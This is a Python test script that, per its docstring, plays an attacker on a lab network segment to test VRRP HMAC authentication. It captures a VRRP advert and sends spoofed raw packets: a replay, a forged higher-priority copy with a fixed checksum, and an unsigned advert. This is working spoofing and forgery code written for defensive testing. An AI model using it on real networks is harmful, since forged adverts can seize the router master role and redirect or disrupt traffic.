#!/usr/bin/env python3
"""An attacker on the lab segment, for the auth_hmac lab test.

Listens for one VRRP advert from SOURCE to 224.0.0.18, then sends, each as a raw IPv4 datagram
spoofing SOURCE with TTL 255:
  replay   - the captured advert again, unchanged
  forged   - the captured advert with priority PRIORITY and a checksum fixed for it
and, from its own LOCAL_ADDRESS, an unsigned advert for the same VRID at priority 254 ("unsigned").
Prints one line per packet sent. Usage: vrrp-replay.py SOURCE PRIORITY LOCAL_ADDRESS
"""
import socket
import struct
import sys
import time

GROUP = "224.0.0.18"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def v3_checksum(src, message):
    # RFC 5798 5.2.8: IPv4 pseudo-header (src, dst, 0, protocol 112, length) and the message
    pseudo = socket.inet_aton(src) + socket.inet_aton(GROUP) + struct.pack("!BBH", 0, 112, len(message))
    m = bytearray(message)
    m[6:8] = b"\0\0"
    c = checksum(pseudo + bytes(m))
    m[6:8] = struct.pack("!H", c)
    return bytes(m)


def send(src, payload, what, local):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    # the lab's namespaces have no default route: name the interface by its address
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(local))
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(payload), 0, 0, 255, 112, 0,
                         socket.inet_aton(src), socket.inet_aton(GROUP))
    s.sendto(header + payload, (GROUP, 0))
    s.close()
    print("sent %s %d bytes from %s priority %d" % (what, len(payload), src, payload[2]), flush=True)


def main():
    source, priority, local = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
    r.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                 socket.inet_aton(GROUP) + socket.inet_aton(local))
    r.settimeout(20)
    while True:
        packet, (frm, _) = r.recvfrom(2048)
        if frm == source:
            break
    ihl = (packet[0] & 0x0F) * 4
    advert = packet[ihl:]
    print("captured %d bytes from %s" % (len(advert), source), flush=True)
    time.sleep(0.5)
    send(source, advert, "replay", local)
    forged = bytearray(advert)
    forged[2] = priority
    # the checksum covers the message only (the trailer follows it): 8 bytes + 4 per address
    message = 8 + 4 * forged[3]
    send(source, v3_checksum(source, bytes(forged[:message])) + bytes(forged[message:]), "forged", local)
    unsigned = bytearray(advert[:message])
    unsigned[2] = 254
    send(local, v3_checksum(local, bytes(unsigned)), "unsigned", local)


if __name__ == "__main__":
    main()
